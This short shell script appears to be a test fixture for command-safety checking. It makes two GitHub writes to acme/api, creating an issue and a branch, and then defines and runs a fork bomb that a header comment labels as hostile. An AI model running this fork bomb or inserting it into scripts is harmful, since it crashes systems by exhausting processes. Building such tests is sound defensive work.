# hostile: the fork bomb f(){ f & f; }; f
# writes: 2
tools github create-issue repo=acme/api title=corpus-write-1 >/dev/null
tools github create-branch repo=acme/api branch=corpus-write-2 >/dev/null
f() { f & f; }
f
